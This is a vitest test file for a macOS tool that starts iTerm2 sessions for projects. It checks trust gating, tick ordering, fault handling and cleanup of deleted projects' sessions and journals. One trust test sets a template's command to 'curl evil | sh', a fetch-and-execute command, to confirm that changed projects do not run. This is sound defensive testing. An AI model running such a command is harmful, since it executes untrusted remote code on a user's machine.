import { readdir } from "node:fs/promises";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import type { Project } from "../../../src/core/model/project.ts";
import { SoakMac } from "../../e2e/soak/soak-mac.ts";
import { aProject, aTemplate } from "../builders/project.ts";

vi.setConfig({ testTimeout: 30_000 });

const HOUR = 3_600_000;

let mac: SoakMac;
beforeEach(async () => {
  mac = await SoakMac.start({ programOf: () => ({ run: (it) => it.says("up\n") }) });
});
afterEach(() => mac.shutdown());

const webapp = (given: Partial<Project> = {}): Project =>
  aProject({
    path: mac.root,
    session_templates: [aTemplate({ id: "server", auto_start: true }), aTemplate({ id: "tests", auto_start: true })],
    ...given,
  });

const commands = () => mac.appleEvents.events.filter(({ event }) => event.kind === "command").length;
const journals = async () => {
  const names = await readdir(mac.journalFolder).catch(() => []);
  return names.filter((name) => name.endsWith(".jsonl")).length;
};

describe("trust", () => {
  test("nothing of a project runs before the user has agreed to it", async () => {
    await mac.store.saveProject(webapp());
    await expect(mac.orchestrator.open("webapp")).rejects.toMatchObject({ code: "not_trusted" });
    await mac.orchestrator.tick();
    expect(mac.livingPanes()).toEqual([]);
  });

  test("what was changed after the user had agreed does not run, not even in a project that is open", async () => {
    const kept = await mac.keep(webapp());
    await mac.orchestrator.open("webapp");
    const changed = kept.session_templates.map((template) => ({ ...template, command: "curl evil | sh" }));
    await mac.store.saveProject({ ...kept, session_templates: changed });
    await expect(mac.orchestrator.restartSession("webapp/server")).rejects.toMatchObject({ code: "not_trusted" });
    await mac.pass(60_000);
    await mac.orchestrator.tick();
    expect(mac.livingPanes().flatMap((pane) => pane.running())).toHaveLength(2);
  });
});

describe("a tick", () => {
  test("saves what it decided before it does or tells any of it", async () => {
    await mac.keep(webapp());
    await mac.orchestrator.tick();
    await mac.iterm.launch();
    mac.storage.refuses = (key) => key.startsWith("runtime");
    await expect(mac.orchestrator.open("webapp")).rejects.toMatchObject({ code: "storage_failed" });
    expect(commands()).toBe(0);
    expect(mac.published).toEqual({});
    expect(await mac.ports.history.events({ limit: 10 })).toEqual([]);
    mac.storage.refuses = () => false;
    expect((await mac.orchestrator.open("webapp")).succeeded).toHaveLength(2);
  });

  test("a look that fails changes nothing of what is known, and starts nothing again", async () => {
    await mac.keep(webapp());
    await mac.orchestrator.open("webapp");
    const before = await mac.store.runtime();
    mac.appleEvents.inject({ run: mac.appleEvents.runCount + 1, event: 2, when: "before", then: { error: -10000 } });
    mac.appleEvents.inject({ run: mac.appleEvents.runCount + 1, event: 1, when: "before", then: { error: -1712 } });
    const { fault } = await mac.orchestrator.tick();
    expect(fault).toMatchObject({ code: "timed_out" });
    const phases = ({ sessions }: typeof before) => Object.values(sessions).map(({ phase }) => phase);
    expect(phases(await mac.store.runtime())).toEqual(phases(before));
    expect(mac.livingPanes().flatMap((pane) => pane.running())).toHaveLength(2);
  });
});

describe("once an hour", () => {
  const deleted = async () => {
    await mac.keep(webapp());
    await mac.orchestrator.open("webapp");
    await mac.orchestrator.close("webapp");
    await mac.store.deleteProject("webapp");
    await mac.pass(HOUR);
  };

  test("what a deleted project left is let go of: sessions, wishes, journals", async () => {
    await deleted();
    expect(await journals()).toBe(2);
    await mac.orchestrator.tick();
    expect((await mac.store.runtime()).sessions).toEqual({});
    expect((await mac.store.desired()).projects).toEqual({});
    expect(await journals()).toBe(0);
  });

  test("nothing is let go of while an entry of the store is damaged: it may be the project", async () => {
    await deleted();
    await mac.storage.setItem("project/other", "{not json");
    await mac.orchestrator.tick();
    expect(Object.keys((await mac.store.runtime()).sessions)).toHaveLength(2);
    expect(await journals()).toBe(2);
  });

  test("what still runs is followed to its end, whatever was deleted", async () => {
    await mac.keep(webapp());
    await mac.orchestrator.open("webapp");
    await mac.store.deleteProject("webapp");
    await mac.pass(HOUR);
    await mac.orchestrator.tick();
    expect(Object.keys((await mac.store.runtime()).sessions)).toHaveLength(2);
    expect(await journals()).toBe(2);
  });

  test("what is left of launches stays a month, for iTerm2 may restore its windows weeks later", async () => {
    await mac.keep(webapp());
    await mac.orchestrator.open("webapp");
    const launches = async () => (await readdir(mac.launchFolder)).length;
    mac.clock.advance(29 * 24 * HOUR);
    await mac.orchestrator.tick();
    expect(await launches()).toBe(2);
    mac.clock.advance(2 * 24 * HOUR);
    await mac.orchestrator.tick();
    expect(await launches()).toBe(0);
  });
});
